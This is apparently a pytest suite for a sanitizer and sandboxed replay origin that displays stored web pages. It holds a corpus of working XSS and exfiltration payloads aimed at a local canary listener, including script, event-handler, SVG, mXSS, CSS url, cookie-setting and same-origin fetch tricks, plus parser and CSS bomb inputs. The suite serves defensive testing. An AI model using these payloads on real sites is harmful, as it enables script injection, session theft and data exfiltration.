"""Hostile pages in the replay: nothing runs, nothing is reached, whichever fence is looked at."""

from __future__ import annotations

import re
import time
from pathlib import Path
from typing import Any

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser
from sqlalchemy import Engine

import console.replay
from console.replay import GOOD_FOR, LARGEST, TAGS, TooMuch, cleaned, file_of, ticket
from console.replay_clean import decoded, harmless, plain_style
from storage.audit import lines
from tests.desk_server import CHROMIUM, Canary, chromium, person, served
from tests.desk_site import make_desk, staff
from tests.makers import NOON, flagged, post, sight

# Each with the ways out it tries: {out} is a listener of ours, {desk} the desk itself.
ATTACKS = {
    "script": "<script>document.title='ran';fetch('{out}/script')</script>",
    "module": "<script type=module>import '{out}/module.js'</script>",
    "outer script": "<script src='{out}/outer.js'></script>",
    "handler": "<img src=x onerror=\"fetch('{out}/onerror')\">"
    "<body onload=\"fetch('{out}/load')\">",
    "focus": "<input autofocus onfocus=\"new Image().src='{out}/focus'\">",
    "details": "<details open ontoggle=\"fetch('{out}/toggle')\"><summary>x</summary></details>",
    "svg": "<svg onload=\"fetch('{out}/svg')\"><script>fetch('{out}/svgs')</script>"
    "<image href='{out}/image.png'/><use href='{out}/use.svg#a'/>"
    "<animate onbegin=\"fetch('{out}/begin')\" attributeName=x dur=1s /></svg>",
    "svg document": "<object data=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
    "onload=&quot;fetch('{out}/object')&quot;/>\"></object><embed src='{out}/embed.svg'>",
    "math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x '
    "onerror=fetch('{out}/mxss')&gt;\">",
    "css": "<style>@import '{out}/import.css'; body{{background:url({out}/bg.png)}} "
    "@font-face{{font-family:f;src:url({out}/f.woff2)}} *{{font-family:f;"
    "list-style:image-set('{out}/set.png' 1x)}}</style>"
    "<div style='background:url({out}/div)'>x</div>",
    "css escapes": r"<style>body{{background:\75rl({out}/escape.png)}}</style>"
    r"<p style='background:u\72l({out}/escape2.png)'>x</p>",
    "css reads": "<style>input[value^='a']{{background:url({out}/a)}}</style><input value='abc'>",
    "links": "<link rel=stylesheet href='{out}/s.css'><link rel=prefetch href='{out}/pf'>"
    "<link rel=preload as=image href='{out}/pl'><link rel=icon href='{out}/icon'>"
    "<link rel=preconnect href='{out}'><link rel=dns-prefetch href='{out}'>"
    "<link rel=prerender href='{out}/pr'><link rel=manifest href='{out}/m'>",
    "refresh": "<meta http-equiv=refresh content='0;url={out}/refresh'>",
    "refresh to top": "<meta http-equiv=refresh content='0;url={desk}/logout'>",
    "cookie": "<meta http-equiv='Set-Cookie' content='desk=stolen; path=/'>"
    "<script>document.cookie='desk=stolen;path=/'</script>",
    "own policy": '<meta http-equiv=Content-Security-Policy content="script-src *">'
    "<script src='{out}/own.js'></script>",
    "base": "<base href='{out}/'><img src='base.png'><a href='a'>x</a>",
    "frames": "<iframe src='{out}/frame'></iframe><iframe srcdoc=\"<script>parent.document.title="
    "'ran'</script>\"></iframe><iframe src='{desk}/queue'></iframe><frame src='{out}/f'>",
    "same origin": "<iframe src='{desk}/queue' onload=\"this.contentDocument.forms[0].submit()\">"
    "</iframe><script>fetch('{desk}/queue',{{credentials:'include'}}).then(r=>r.text())"
    ".then(t=>fetch('{out}/stolen'))</script>",
    "form": "<form id=f action='{desk}/queue/next' method=post><input name=x></form>"
    "<script>f.submit()</script><form action='{out}/form'><input autofocus "
    "onfocus='this.form.submit()'></form>",
    "button": "<form id=g></form><button form=g formaction='javascript:fetch(`{out}/js`)' "
    "autofocus>x</button>",
    "javascript": "<a id=j href=\"javascript:fetch('{out}/js2')\">x</a>"
    "<iframe src=\"javascript:fetch('{out}/js3')\"></iframe>",
    "media": "<video src='{out}/v' poster='{out}/p' autoplay></video><audio src='{out}/a' autoplay>"
    "</audio><picture><source srcset='{out}/src'>"
    "<img src='{out}/i' srcset='{out}/ss 2x'></picture>",
    "old tags": "<body background='{out}/bg'><table background='{out}/tb'>"
    "<td background='{out}/td'>"
    "</table><bgsound src='{out}/bgs'><applet archive='{out}/ap'></applet><layer src='{out}/l'>",
    "opener": "<script>window.open('{out}/open');top.location='{out}/top';"
    "parent.postMessage('x','*');alert(1)</script>",
    "worker": "<script>navigator.serviceWorker.register('/sw.js');"
    "new Worker('data:,fetch(`{out}/w`)');"
    "new EventSource('{out}/es');new WebSocket('ws://x');navigator.sendBeacon('{out}/b')</script>",
    "ping": "<a href='#' ping='{out}/ping' autofocus>x</a><a download href='{out}/d'>x</a>",
    "template": "<template shadowrootmode=open><img src='{out}/shadow'></template>",
    "noscript": "<noscript><img src='{out}/ns'></noscript><noscript><p title=\"</noscript>"
    "<img src=x onerror=fetch('{out}/nsx')>\">",
    "xml": "<?xml-stylesheet href='{out}/x.xsl'?><xml><x:script xmlns:x='http://www.w3.org/1999/xhtml'"
    ">fetch('{out}/xml')</x:script></xml>",
    "charset": "<meta charset=utf-7>+ADw-script+AD4-fetch('{out}/utf7')+ADw-/script+AD4-",
}
OUT = "http://127.0.0.1:1"
needs_chromium = pytest.mark.skipif(CHROMIUM is None, reason="there is no Chromium here")


@pytest.fixture
def kind() -> str:
    return "sqlite"


# --- the first fence: what is taken out -----------------------------------------------------------


@pytest.mark.parametrize("name", ATTACKS)
def test_nothing_that_points_out_or_runs_is_left_in_the_html(name: str) -> None:
    html = harmless(ATTACKS[name].format(out=OUT, desk="http://127.0.0.1:2"))
    again = LexborHTMLParser(html)  # as a browser reads what was written, not as it was meant
    runs = "script, iframe, frame, object, embed, link, base, meta, video, audio, template, source"
    assert again.css(runs) == []
    for node in again.css("*"):
        for attribute in node.attributes:
            assert not attribute.startswith("on")
            assert attribute not in {"src", "srcset", "href", "action", "formaction", "ping"}
            assert attribute not in {"background", "poster", "data", "xlink:href", "archive"}
        if node.tag == "style" or "style" in node.attributes:
            words = f"{node.text()} {node.attributes.get('style')}"
            assert not re.search(r"url\s*\(|@import|\\", words, re.IGNORECASE)


def test_words_pictures_within_and_plain_style_stay() -> None:
    html = harmless(
        "<h1 style='color:red'>包过</h1><style>p{color:blue}</style>"
        "<img alt=章 src='data:image/png;base64,AAAA'>"
    )
    assert '<h1 style="color:red">包过</h1>' in html
    assert "p{color:blue}" in html
    assert 'src="data:image/png;base64,AAAA"' in html


@given(st.text(alphabet="<>/=\"' abcdeimnoprstul:;()&#\\\x00{}-!", max_size=200))
def test_no_text_makes_the_cleaner_fail_or_leave_a_script(text: str) -> None:
    assert "<script" not in harmless(text).lower()


@pytest.mark.parametrize(
    ("data", "words"),
    [
        ("包过".encode(), "包过"),
        ("包过".encode("gb18030"), "包过"),
        (b"<meta charset=gb2312>" + "包过".encode("gbk"), "包过"),
        (b"<meta charset=nonsense>" + "包过".encode(), "包过"),
        (b"\xff\xfe\xfa", "\ufffd"),
    ],
)
def test_pages_of_every_charset_are_read(data: bytes, words: str) -> None:
    assert words in decoded(data)


@pytest.mark.parametrize("label", ["undefined", "idna", "punycode", "unicode_escape", "rot13"])
def test_a_charset_that_only_python_knows_is_none(label: str) -> None:
    data = f"<meta charset={label}>".encode() + "包过".encode() + b"-" + b"a" * 100_000
    begun = time.process_time()
    assert "包过" in decoded(data)
    assert time.process_time() - begun < 1


# --- what a page may cost -------------------------------------------------------------------------

BOMBS = {
    "one long word": b"<style>%s</style>" % (b"a" * 2_000_000),
    "names that never end": b"<style>%s</style>" % (b"a-url" * 400_000),
    "brackets that never close": b"<style>%s</style>" % (b"url(" * 500_000),
    "blanks after url": b"<style>url%s</style>" % (b" " * 2_000_000),
    "imports without an end": b"<style>%s</style>" % (b"@import" * 280_000),
    "in an attribute": b'<p style="%s">' % (b"a-" * 1_000_000),
}


@pytest.mark.parametrize("name", BOMBS)
def test_style_of_any_size_is_cleaned_in_time_that_grows_with_it(name: str) -> None:
    begun = time.process_time()
    harmless(BOMBS[name].decode())
    assert time.process_time() - begun < 2, "1 MB of letters once took a day"


@given(st.text(alphabet="url(src)@import;image-set x:", max_size=60))
def test_what_is_taken_out_of_a_style_never_joins_into_a_new_way_out(style: str) -> None:
    left = plain_style(style)
    assert not re.search(r"(?:url|src|image-set)\s*\(|@import", left, re.IGNORECASE)


@pytest.mark.parametrize(
    "data",
    [
        b"<p " + b"".join(b"a%d=x " % i for i in range(300_000)) + b">",
        b"<div>" * (TAGS - 1_000),
    ],
    ids=["attributes", "depth"],
)
def test_a_page_that_keeps_the_parser_busy_costs_a_child_and_not_the_desk(data: bytes) -> None:
    with pytest.raises(TooMuch):
        cleaned(data)


def test_a_page_beyond_the_limits_is_said_and_others_are_still_replayed(
    engine: Engine, tmp_path: Path
) -> None:
    with served(engine, tmp_path) as desk:

        def replayed(data: bytes) -> httpx.Response:
            kept = desk.store.put(data, "raw", "http://a.example/", NOON)
            return httpx.get(f"{desk.replay_origin}/r/{ticket(desk, kept.sha256)}", timeout=30)

        large = replayed(b"<p>" + b"x" * LARGEST)
        tangled = replayed(b"<b>" * (TAGS + 1))
        good = replayed("<p>包过".encode())
    for refused in (large, tangled):
        assert refused.status_code == 422
        assert "请看截图和文字" in refused.text
        assert "See the picture" in refused.text
    assert "包过" in good.text


# --- tickets --------------------------------------------------------------------------------------


def test_a_ticket_is_good_for_one_file_and_a_few_minutes(engine: Engine, tmp_path: Path) -> None:
    desk = make_desk(engine, tmp_path)
    one, other = "a" * 64, "b" * 64
    given_out = ticket(desk, one, now=1000)
    assert file_of(desk, given_out, now=1000 + GOOD_FOR) == one
    assert file_of(desk, given_out, now=1001 + GOOD_FOR) is None
    assert file_of(desk, given_out.replace(one, other), now=1000) is None
    later = given_out.replace("1600.", "9600.")
    assert later != given_out
    assert file_of(desk, later, now=1000) is None
    for nonsense in ("", ".", "..", "1..", "x" * 500, f"99999999999999.{one}.{one}"):
        assert file_of(desk, nonsense) is None
    stranger = make_desk(engine, tmp_path, secret=b"t" * 32)
    assert file_of(stranger, given_out, now=1000) is None


def test_the_second_origin_knows_no_cookie_and_no_page_of_ours(
    engine: Engine, tmp_path: Path
) -> None:
    with served(engine, tmp_path) as desk:
        kept = desk.store.put(b"<script>1</script>ok", "raw", "http://a.example/", NOON)
        good = httpx.get(f"{desk.replay_origin}/r/{ticket(desk, kept.sha256)}")
        lost = httpx.get(f"{desk.replay_origin}/r/{ticket(desk, '0' * 64)}")
        bad = httpx.get(f"{desk.replay_origin}/r/nonsense")
        elsewhere = httpx.get(f"{desk.replay_origin}/queue")
    assert (good.status_code, lost.status_code, bad.status_code) == (200, 404, 403)
    assert elsewhere.status_code == 404
    for answer in (good, lost, bad):
        assert answer.headers["content-security-policy"].startswith("sandbox; default-src 'none'")
        assert "set-cookie" not in answer.headers
    assert good.text.endswith("ok</body></html>")


# --- in a real browser ----------------------------------------------------------------------------


class Watch:
    """Everything a page could do that it must not."""

    def __init__(self, page: Any, allowed: tuple[str, ...]) -> None:
        self.seen: list[str] = []
        self.page = page
        page.on("dialog", lambda dialog: (self.seen.append("dialog"), dialog.dismiss()))
        page.context.on("page", lambda _: self.seen.append("a new window"))
        page.on("download", lambda _: self.seen.append("a download"))

        def sent(request: Any) -> None:
            if not request.url.startswith((*allowed, "data:", "about:", "blob:")):
                self.tried.append(request.url)

        self.tried: list[str] = []
        page.on("request", sent)


@needs_chromium
@pytest.mark.timeout(280)
@pytest.mark.parametrize("cleaned", [True, False], ids=["all fences", "policy and frame alone"])
def test_a_corpus_of_attacks_runs_nothing_and_reaches_nothing(
    engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, cleaned: bool
) -> None:
    if not cleaned:
        monkeypatch.setattr(console.replay, "cleaned", lambda data: data)
    staff(engine)
    canary = Canary()
    with served(engine, tmp_path) as desk, chromium() as browser:
        out = f"http://127.0.0.1:{canary.port}"
        whole: set[str] = set()  # those that do not swallow what comes after them
        for n, (name, attack) in enumerate(ATTACKS.items(), 1):
            html = attack.format(out=out, desk=desk.origin) + "<p id=end>包过</p>"
            if LexborHTMLParser(harmless(html)).css("#end"):
                whole.add(name)
            kept = desk.store.put(html.encode(), "dom", f"http://s{n}.example/", NOON)
            sight(engine, flagged(post(f"http://s{n}.example/"), seed=n, snapshots=(kept,)))
        page = person(browser, desk, "wang")
        watch = Watch(page, (desk.origin, desk.replay_origin))
        cookies = page.context.cookies()
        before = len(list(lines(engine)))
        assert len(whole) > len(ATTACKS) / 2
        for n, name in enumerate(ATTACKS, 1):
            # A case of the same advertiser would join; ours are all of different hosts.
            address = f"{desk.origin}/cases/{n}?way=replay"
            page.goto(address)
            frame = page.frame_locator("iframe.replay")
            if cleaned and name in whole:
                frame.locator("#end").wait_for(state="attached")
            page.wait_for_timeout(150)
            assert page.url == address, name
            assert page.title().startswith("案件"), name
        page.wait_for_timeout(500)
        assert canary.heard == []
        assert watch.seen == []
        assert page.context.cookies() == cookies
        acts = {line.act for line in lines(engine, after=before)}
        assert acts == {"case.read", "snapshot.replay"}, "nothing was done in the person's name"
        if cleaned:
            assert watch.tried == []
    canary.close()


@needs_chromium
def test_a_replay_opened_by_itself_is_as_tame(engine: Engine, tmp_path: Path) -> None:
    canary = Canary()
    with served(engine, tmp_path) as desk, chromium() as browser:
        html = ATTACKS["script"].format(out=f"http://127.0.0.1:{canary.port}") + "<p id=end>x</p>"
        kept = desk.store.put(html.encode(), "dom", "http://a.example/", NOON)
        page = browser.new_page()
        page.goto(f"{desk.replay_origin}/r/{ticket(desk, kept.sha256, time.time())}")
        page.wait_for_selector("#end", state="attached")
        assert page.title() != "ran"
        assert page.evaluate("self.origin") == "null", "an origin of nobody"
        assert canary.heard == []
    canary.close()


@needs_chromium
def test_the_same_attacks_do_get_out_where_no_fence_stands() -> None:
    """Else the corpus would prove nothing."""
    canary = Canary()
    out = f"http://127.0.0.1:{canary.port}"
    with chromium() as browser:
        page = browser.new_page()
        for name in ("script", "handler", "svg", "css", "links", "media", "frames"):
            page.set_content(ATTACKS[name].format(out=out, desk=out))
        page.wait_for_timeout(500)
    assert len({words.partition(" /")[2] for words in canary.heard}) >= 7
    canary.close()
